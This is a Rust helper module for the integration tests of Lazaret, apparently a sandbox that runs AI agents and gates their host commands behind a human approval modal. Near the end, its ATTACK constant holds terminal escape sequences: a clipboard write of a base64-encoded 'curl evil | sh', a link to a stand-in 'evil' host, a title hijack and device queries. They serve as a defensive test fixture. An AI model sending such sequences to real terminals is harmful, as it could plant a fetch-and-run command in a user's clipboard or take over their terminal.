//! Shared helpers for integration tests.
//!
//! Lazaret is used rootless, so tests that run `lazaret` (or podman through
//! it) do so as an unprivileged user. A developer runs the suite as their
//! own user; CI runs as root and names a test user in `LAZARET_TEST_USER`
//! (scripts/test creates it), and commands are then run through `runuser`.

#![allow(dead_code)]

pub mod sandbox;
pub mod testnet;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::OnceLock;

/// The user tests run Lazaret as, when the suite itself runs as root.
pub struct TestUser {
    pub name: String,
    pub uid: u32,
    pub gid: u32,
    pub home: PathBuf,
}

pub fn is_root() -> bool {
    nix::unistd::geteuid().is_root()
}

/// Whether a test whose precondition is `met` can run. A test that cannot
/// run fails: cargo would report a test that returns early as passed.
/// Only with `LAZARET_ALLOW_SKIP=1` (never set by CI) is it skipped, and
/// then counted in the skip log that scripts/test prints as
/// "N skipped: reasons".
pub fn can_run(met: bool, why: &str) -> bool {
    if met {
        return true;
    }
    let test = std::thread::current()
        .name()
        .unwrap_or("a test")
        .to_string();
    if std::env::var("LAZARET_ALLOW_SKIP").as_deref() != Ok("1") {
        panic!(
            "{test} cannot run here: {why}. Run the suite with `sudo scripts/test` \
             (it runs every test as root, and Lazaret as an unprivileged user), or set \
             LAZARET_ALLOW_SKIP=1 to count it as skipped"
        );
    }
    let log = std::env::var_os("LAZARET_SKIP_LOG")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_TARGET_TMPDIR")).join("lazaret-skipped.log"));
    // One short O_APPEND write per line: parallel tests do not interleave.
    let line = format!("{test}: {why}\n");
    let written = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(&log)
        .and_then(|mut f| std::io::Write::write_all(&mut f, line.as_bytes()));
    if let Err(e) = written {
        panic!(
            "{test} skipped, but the skip log {} failed: {e}",
            log.display()
        );
    }
    eprintln!("SKIPPED {test}: {why} (counted in {})", log.display());
    false
}

/// [`can_run`] for tests that need root (network namespaces, other users).
pub fn can_run_as_root(why: &str) -> bool {
    can_run(is_root(), why)
}

/// `None` when the suite runs unprivileged (then Lazaret runs as us).
pub fn test_user() -> Option<&'static TestUser> {
    static USER: OnceLock<Option<TestUser>> = OnceLock::new();
    USER.get_or_init(|| {
        if !is_root() {
            return None;
        }
        let name = std::env::var("LAZARET_TEST_USER").expect(
            "the tests run as root: set LAZARET_TEST_USER to an unprivileged user \
             (scripts/test creates `lazaret-test`), or run them as a normal user",
        );
        let user = nix::unistd::User::from_name(&name)
            .expect("passwd lookup")
            .unwrap_or_else(|| panic!("LAZARET_TEST_USER={name} does not exist"));
        Some(TestUser {
            name,
            uid: user.uid.as_raw(),
            gid: user.gid.as_raw(),
            home: user.dir,
        })
    })
    .as_ref()
}

/// A copy of the `lazaret` binary that the test user can execute (the
/// build folder may sit under a home the test user cannot enter).
pub fn lazaret_bin() -> PathBuf {
    static BIN: OnceLock<PathBuf> = OnceLock::new();
    BIN.get_or_init(|| {
        let built = PathBuf::from(env!("CARGO_BIN_EXE_lazaret"));
        if test_user().is_none() {
            return built;
        }
        // Test processes end without running destructors of statics: the
        // copies of test binaries that have ended are removed here instead
        // (each is ~135 MB, and a suite run makes dozens).
        remove_copies_of_ended_tests();
        let dir = std::env::temp_dir().join(format!("lazaret-test-bin-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
        let copy = dir.join("lazaret");
        std::fs::copy(&built, &copy).unwrap();
        std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755)).unwrap();
        copy
    })
    .clone()
}

/// Removes `lazaret-test-bin-PID` folders whose test process has ended.
fn remove_copies_of_ended_tests() {
    let Ok(entries) = std::fs::read_dir(std::env::temp_dir()) else {
        return;
    };
    for e in entries.flatten() {
        let name = e.file_name();
        let Some(pid) = name
            .to_str()
            .and_then(|n| n.strip_prefix("lazaret-test-bin-"))
            .and_then(|p| p.parse::<u32>().ok())
        else {
            continue;
        };
        if !Path::new(&format!("/proc/{pid}")).exists() {
            let _ = std::fs::remove_dir_all(e.path());
        }
    }
}

/// A folder owned by whoever runs Lazaret in the tests, removed on drop.
pub struct Scratch {
    dir: tempfile::TempDir,
}

impl Scratch {
    pub fn new() -> Self {
        let dir = tempfile::Builder::new()
            .prefix("lazaret-test-")
            .tempdir()
            .unwrap();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let s = Scratch { dir };
        s.chown(&s.path());
        s
    }

    /// Canonical path of the folder.
    pub fn path(&self) -> PathBuf {
        self.dir.path().canonicalize().unwrap()
    }

    /// Hands `path` to the test user (no-op when not root).
    pub fn chown(&self, path: &Path) {
        if let Some(u) = test_user() {
            nix::unistd::chown(
                path,
                Some(nix::unistd::Uid::from_raw(u.uid)),
                Some(nix::unistd::Gid::from_raw(u.gid)),
            )
            .unwrap();
        }
    }

    /// Creates a folder (and parents) owned by the test user.
    pub fn mkdir(&self, rel: &str) -> PathBuf {
        let p = self.path().join(rel);
        std::fs::create_dir_all(&p).unwrap();
        let mut q = p.clone();
        while q != self.path() {
            self.chown(&q);
            q = q.parent().unwrap().to_path_buf();
        }
        p
    }

    /// Writes a file owned by the test user.
    pub fn write(&self, rel: &str, contents: &str) -> PathBuf {
        let p = self.path().join(rel);
        if let Some(parent) = p.parent() {
            std::fs::create_dir_all(parent).unwrap();
            let mut q = parent.to_path_buf();
            while q.starts_with(self.path()) && q != self.path() {
                self.chown(&q);
                q = q.parent().unwrap().to_path_buf();
            }
        }
        std::fs::write(&p, contents).unwrap();
        self.chown(&p);
        p
    }
}

/// A `lazaret` invocation as the test user, with a clean environment:
/// `HOME` set to `home`, the given PATH, and `cwd`.
pub fn lazaret(home: &Path, cwd: &Path, path_var: &str, args: &[&str]) -> Command {
    lazaret_env(home, cwd, path_var, &[], args)
}

/// Like [`lazaret`], with extra environment variables.
pub fn lazaret_env(
    home: &Path,
    cwd: &Path,
    path_var: &str,
    extra: &[(&str, &str)],
    args: &[&str],
) -> Command {
    let mut cmd = as_test_user(&lazaret_bin(), home, path_var, extra);
    cmd.args(args).current_dir(cwd);
    cmd
}

/// `program` run as the test user (or as us, unprivileged) with a clean
/// environment holding HOME, PATH, LANG and `extra`.
pub fn as_test_user(
    program: &Path,
    home: &Path,
    path_var: &str,
    extra: &[(&str, &str)],
) -> Command {
    let mut env: Vec<(String, String)> = vec![
        ("HOME".into(), home.display().to_string()),
        ("PATH".into(), path_var.into()),
        ("LANG".into(), "C.UTF-8".into()),
    ];
    if let Ok(dir) = std::env::var("LAZARET_LIBEXEC_DIR") {
        env.push(("LAZARET_LIBEXEC_DIR".into(), dir));
    }
    env.extend(extra.iter().map(|(k, v)| (k.to_string(), v.to_string())));
    match test_user() {
        Some(u) => {
            let runuser = ["/usr/sbin/runuser", "/sbin/runuser"]
                .into_iter()
                .find(|p| Path::new(p).exists())
                .unwrap_or("runuser");
            let mut c = Command::new(runuser);
            c.args(["-u", &u.name, "--", "env", "-i"]);
            c.arg(format!("USER={}", u.name));
            c.arg(format!("LOGNAME={}", u.name));
            for (k, v) in &env {
                c.arg(format!("{k}={v}"));
            }
            c.arg(program);
            c
        }
        None => {
            let mut c = Command::new(program);
            c.env_clear();
            c.envs(env);
            c
        }
    }
}

/// The real home of the user running Lazaret (its podman storage lives there).
pub fn user_home() -> PathBuf {
    match test_user() {
        Some(u) => u.home.clone(),
        None => PathBuf::from(std::env::var("HOME").expect("HOME")),
    }
}

/// `podman ARGS` as the user running Lazaret; panics when podman cannot run.
pub fn podman(args: &[&str]) -> Output {
    let mut c = as_test_user(
        Path::new("/usr/bin/podman"),
        &user_home(),
        STANDARD_PATH,
        &[],
    );
    c.args(args).current_dir("/");
    c.output().expect("podman runs")
}

/// The PATH a normal user's shell has on Debian.
pub const STANDARD_PATH: &str = "/usr/local/bin:/usr/bin:/bin:/usr/local/sbin:/usr/sbin:/sbin";

/// `git ARGS` in `dir` as the user running Lazaret (the repository is
/// theirs; git refuses other owners' repositories). Panics on failure.
pub fn git(dir: &Path, args: &[&str]) -> String {
    let git = ["/usr/local/bin/git", "/usr/bin/git"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .expect("git is installed");
    let mut c = as_test_user(
        Path::new(git),
        &user_home(),
        STANDARD_PATH,
        &[("GIT_OPTIONAL_LOCKS", "0")],
    );
    c.arg("-C").arg(dir).args(args);
    let out = c.output().expect("git runs");
    let (o, e) = text(&out);
    assert!(out.status.success(), "git {args:?} failed: {e}");
    o
}

/// A git repository in `dir` (made by the test user) with one empty
/// commit on `main`.
pub fn git_repo(dir: &Path) {
    git(dir, &["init", "-q", "-b", "main"]);
    git_commit(dir, "first");
}

/// An empty commit in the repository `dir`, with an author.
pub fn git_commit(dir: &Path, message: &str) {
    git(
        dir,
        &[
            "-c",
            "user.name=dev",
            "-c",
            "user.email=dev@example.invalid",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            message,
        ],
    );
}

pub fn text(out: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// A private tmux server (own socket) run as the test user, for driving
/// terminal programs end to end; killed on drop.
pub struct Tmux {
    socket: String,
}

impl Tmux {
    /// Starts `command` (a shell command line) in a detached session of
    /// `cols`x`rows`, in `cwd`, with `env` set.
    pub fn start(cwd: &Path, cols: u16, rows: u16, env: &[(&str, &str)], command: &str) -> Tmux {
        let socket = format!(
            "lazaret-test-{}-{}",
            std::process::id(),
            COUNTER.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
        );
        let t = Tmux { socket };
        let mut exports = String::new();
        for (k, v) in env {
            exports.push_str(&format!("export {k}={}; ", shell_quote(v)));
        }
        let script = format!(
            "cd {} && {exports}exec {command}",
            shell_quote(&cwd.display().to_string())
        );
        let out = t
            .cmd(&[
                "new-session",
                "-d",
                "-x",
                &cols.to_string(),
                "-y",
                &rows.to_string(),
                "sh",
                "-c",
                &script,
            ])
            .output()
            .unwrap();
        assert!(out.status.success(), "tmux: {}", text(&out).1);
        t
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = as_test_user(
            Path::new("/usr/bin/tmux"),
            &user_home(),
            STANDARD_PATH,
            &[("TERM", "xterm-256color")],
        );
        c.args(["-L", &self.socket]).args(args);
        c
    }

    /// Types `keys` (tmux key names or literal text with `literal`).
    pub fn send(&self, keys: &[&str]) {
        let mut args = vec!["send-keys", "-t", "0"];
        args.extend_from_slice(keys);
        let out = self.cmd(&args).output().unwrap();
        assert!(out.status.success(), "send-keys: {}", text(&out).1);
    }

    /// Runs the tmux command `args` on this server; its standard output.
    pub fn tmux(&self, args: &[&str]) -> String {
        let out = self.cmd(args).output().unwrap();
        assert!(out.status.success(), "tmux {args:?}: {}", text(&out).1);
        text(&out).0
    }

    /// A format (`#{alternate_on}`, ...) of the pane, expanded.
    pub fn format(&self, f: &str) -> String {
        self.tmux(&["display-message", "-p", "-t", "0", f])
            .trim()
            .to_string()
    }

    /// The pid of the pane's program (the first process in it).
    pub fn pane_pid(&self) -> u32 {
        self.format("#{pane_pid}").parse().unwrap()
    }

    /// Types `s` literally, then Enter.
    pub fn line(&self, s: &str) {
        self.send(&["-l", s]);
        self.send(&["Enter"]);
    }

    /// The visible screen as text.
    pub fn screen(&self) -> String {
        let out = self
            .cmd(&["capture-pane", "-p", "-t", "0"])
            .output()
            .unwrap();
        text(&out).0
    }

    /// Polls the screen until `pred` holds (deadline `secs`); returns it.
    pub fn wait_for(&self, secs: u64, what: &str, pred: impl Fn(&str) -> bool) -> String {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
        loop {
            let s = self.screen();
            if pred(&s) {
                return s;
            }
            // A program that is gone will not show it: say so at once.
            assert!(
                self.alive(),
                "the program ended while waiting for {what}; its last screen:\n{s}"
            );
            assert!(
                std::time::Instant::now() < deadline,
                "timed out waiting for {what}; screen:\n{s}"
            );
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
    }

    pub fn resize(&self, cols: u16, rows: u16) {
        let out = self
            .cmd(&[
                "resize-window",
                "-t",
                "0",
                "-x",
                &cols.to_string(),
                "-y",
                &rows.to_string(),
            ])
            .output()
            .unwrap();
        assert!(out.status.success(), "resize: {}", text(&out).1);
    }

    /// Waits (up to `secs`) for the session's program to exit.
    pub fn wait_exit(&self, secs: u64, what: &str) {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
        while self.alive() {
            assert!(std::time::Instant::now() < deadline, "{what} did not exit");
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
    }

    /// `prefix q` in the workbench, answering its question (when sessions
    /// that would outlive it run) with `e`: end them.
    pub fn quit_ending_sessions(&self) {
        self.send(&["C-a", "q"]);
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        while self.alive() && std::time::Instant::now() < deadline {
            if self.screen().contains("[e] end the") {
                self.send(&["e"]);
                return;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
    }

    /// `true` while the session's program still runs.
    pub fn alive(&self) -> bool {
        self.cmd(&["has-session", "-t", "0"])
            .output()
            .is_ok_and(|o| o.status.success())
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = self.cmd(&["kill-server"]).output();
    }
}

static COUNTER: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);

pub fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// The escalation client inside every sandbox.
pub const ESCALATE: &str = "/run/lazaret/escalate";

/// The approval modal of a request whose justification is `why` (it sits
/// indented under the modal's border; the typed command line, which also
/// holds `why`, never looks like that), open and armed: past the moment it
/// holds keys after the human opened it, read to its end (the code shows).
pub fn modal_with(s: &str, why: &str) -> bool {
    s.contains("Host escalation request")
        && s.contains(&format!("┃  {why}"))
        && s.contains("] approve & run")
}

/// Whether a request waits for the human, unopened (decisions.md D15: it
/// never takes the keyboard; the status line says so).
pub fn request_waits(s: &str) -> bool {
    s.contains("⚑") && !s.contains("Host escalation request")
}

/// The code the open modal on `s` asks for (`[type xyz] approve & run`).
pub fn modal_code(s: &str) -> Option<String> {
    let at = s.find("[type ")? + "[type ".len();
    let code: String = s[at..].chars().take_while(|c| *c != ']').collect();
    (code.len() == 3 && code.chars().all(|c| c.is_ascii_lowercase())).then_some(code)
}

/// Types the code of the open, armed modal (the one of `why`: a long one
/// read to its end may have its justification scrolled away), a key at a
/// time, as a human approves.
pub fn approve_modal(t: &Tmux, why: &str) {
    let s = t.wait_for(20, &format!("the armed modal of {why}"), |s| {
        s.contains("Host escalation request") && s.contains("] approve & run")
    });
    let code = modal_code(&s).unwrap_or_else(|| panic!("no code on the modal:\n{s}"));
    for c in code.chars() {
        t.send(&["-l", &c.to_string()]);
    }
}

/// Opens the waiting request of `why` (prefix `!`) and approves it.
pub fn open_and_approve(t: &Tmux, why: &str) {
    open_request_by_bang(t, why);
    approve_modal(t, why);
}

/// Through the approval modal in `t`'s focused shell: a request denied with
/// a reason (the agent gets exit code 77 and the reason), then one edited
/// into `touch canary`, which runs instead (re-checked) on the host.
pub fn deny_then_edit(t: &Tmux, canary: &Path) {
    t.line(&format!(
        "clear; {ESCALATE} --justify step-deny -- whoami; echo D-EXIT=$?"
    ));
    open_request_by_bang(t, "step-deny");
    t.send(&["d"]);
    t.send(&["-l", "not now"]);
    t.send(&["Enter"]);
    let s = t.wait_for(20, "the denial", |s| s.contains("D-EXIT=77"));
    assert!(s.contains("not now"), "{s}");

    t.line(&format!(
        "clear; {ESCALATE} --justify step-edit -- whoami; echo E-EXIT=$?"
    ));
    open_request_by_bang(t, "step-edit");
    t.send(&["e"]);
    t.wait_for(20, "the editor", |s| s.contains("Edit command"));
    for _ in 0.."whoami".len() {
        t.send(&["BSpace"]);
    }
    t.send(&["-l", &format!("touch {}", canary.display())]);
    t.send(&["Enter"]);
    // The edit is read again and approved with the code, as any request.
    t.wait_for(20, "the edited command to read", |s| {
        s.contains("as you edited it")
    });
    approve_modal(t, "step-edit");
    t.wait_for(20, "the edited result", |s| s.contains("E-EXIT=0"));
    assert!(canary.exists(), "the edited command did not run");
}

/// Removes what a deleted account of `uid` left in per-uid runtime folders
/// (podman's pause pid file, its run root, Lazaret's runtime folder). A
/// throwaway account gets a reused uid: with a deleted account's pause pid
/// file in place, podman fails with "cannot re-exec process to join the
/// existing user namespace". Call it after `useradd` and after `userdel`.
pub fn clear_uid_leftovers(uid: u32) {
    for dir in [
        format!("/tmp/podman-run-{uid}"),
        format!("/tmp/containers-user-{uid}"),
        format!("/tmp/run-{uid}"),
        format!("/dev/shm/lazaret-{uid}"),
        format!("/dev/shm/libpod_rootless_lock_{uid}"),
        format!("/run/user/{uid}/libpod"),
        format!("/run/user/{uid}/containers"),
    ] {
        let p = Path::new(&dir);
        let _ = if p.is_dir() {
            std::fs::remove_dir_all(p)
        } else {
            std::fs::remove_file(p)
        };
    }
}

/// What the agent writes: clipboard (OSC 52), title, hyperlink, mouse and
/// cursor modes, bracketed paste, and device queries (DA, OSC 10/11,
/// XTVERSION, ENQ), among text and colour.
pub const ATTACK: &[u8] = b"before\n\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\x1b]2;pwned-title\x07\
\x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\\n\x1b[?1000h\x1b[?1006h\x1b[?1003h\x1b[?25l\x1b[?2004h\
\x1b[c\x1b[>c\x1b]11;?\x07\x1b]10;?\x07\x1b[>0q\x05\x1b[1;31mred-text\x1b[0m\nafter-attack\n";

/// `printf` of `bytes`, every byte that is not a letter or digit in octal.
pub fn printf(bytes: &[u8]) -> String {
    let mut s = String::from("printf '");
    for b in bytes {
        if b.is_ascii_alphanumeric() {
            s.push(char::from(*b));
        } else {
            s.push_str(&format!("\\{b:03o}"));
        }
    }
    s.push('\'');
    s
}

/// The pane's mouse, cursor and paste modes, its title and the paste
/// buffers tmux holds (set by OSC 52 when `set-clipboard` is on).
pub fn terminal_state(t: &Tmux) -> (String, String, String) {
    let modes = t.format(
        "mouse=#{mouse_standard_flag}#{mouse_button_flag}#{mouse_any_flag}#{mouse_sgr_flag} cursor=#{cursor_flag} alt=#{alternate_on}",
    );
    let title = t.format("#{pane_title}");
    let buffers = t.tmux(&["list-buffers"]);
    (modes, title, buffers)
}

pub const CLEAN_MODES: &str = "mouse=0000 cursor=1 alt=0";

/// After the program in the pane: show its exit code, then read the
/// terminal's input for a second and show every byte that arrived.
pub const AFTER_INPUT_CHECK: &str = "echo EXIT=$?; stty -icanon -echo min 0 time 10; head -c 300 | od -An -c | sed 's/^/INPUT:/'; echo INPUT-END; sleep 120";

/// Whether the approval modal on `screen` says `phrase`, wherever its
/// lines wrap (the modal is as wide as the pane, narrower beside the
/// dashboard's column): its rows' text between the modal's borders, and
/// the phrase, compared without whitespace.
pub fn modal_says(screen: &str, phrase: &str) -> bool {
    let inside: String = screen
        .lines()
        .filter_map(|l| {
            let start = l.find('┃')? + '┃'.len_utf8();
            let len = l[start..].find('┃')?;
            Some(&l[start..start + len])
        })
        .collect();
    let squeeze = |t: &str| t.split_whitespace().collect::<String>();
    squeeze(&inside).contains(&squeeze(phrase))
}

/// The focused pane's text (between the borders of the rounded box the
/// workbench draws around it, `╭╮ ╰╯`), its rows joined without a break:
/// a line the shell wrapped reads whole again, and nothing of a panel
/// beside the pane is in it.
pub fn pane_text(screen: &str) -> String {
    let mut rows = screen.lines().skip_while(|l| !l.contains('╭'));
    let Some(top) = rows.next() else {
        return String::new();
    };
    let chars: Vec<char> = top.chars().collect();
    let left = chars.iter().position(|&c| c == '╭').unwrap_or(0);
    let right = chars.iter().position(|&c| c == '╮').unwrap_or(chars.len());
    rows.take_while(|l| !l.contains('╰'))
        .map(|l| {
            l.chars()
                .skip(left + 1)
                .take(right.saturating_sub(left + 1))
                .collect::<String>()
        })
        .collect()
}

/// Prefix `!` until the approval modal of `why` shows: the approval inbox
/// spans every domain of the test user, and other tests' requests may be
/// older than this one (each press puts the next oldest in front).
pub fn open_request_by_bang(t: &Tmux, why: &str) -> String {
    for _ in 0..8 {
        t.send(&["C-a", "!"]);
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
        while std::time::Instant::now() < deadline {
            let s = t.screen();
            if modal_with(&s, why) {
                return s;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
    }
    panic!("no modal of {why} after prefix !:\n{}", t.screen());
}

/// The rows of the sessions panel from domain `hash`'s row to the next
/// domain's: the screen's rows right of the focused pane (whose shell's
/// prompt names the container, twelve hex digits as a domain's hash).
pub fn domain_rows(screen: &str, hash: &str) -> String {
    let is_domain = |l: &str| {
        l.split(|c: char| !c.is_ascii_hexdigit())
            .any(|w| w.len() == 12)
    };
    let right = screen
        .lines()
        .find_map(|l| l.chars().position(|c| c == '╮'))
        .map_or(0, |edge| edge + 1);
    let mut out = String::new();
    let mut inside = false;
    for line in screen.lines() {
        let line: String = line.chars().skip(right).collect();
        let line = line.as_str();
        if line.contains(hash) {
            inside = true;
        } else if inside && is_domain(line) {
            break;
        }
        if inside {
            out.push_str(line);
            out.push('\n');
        }
    }
    out
}
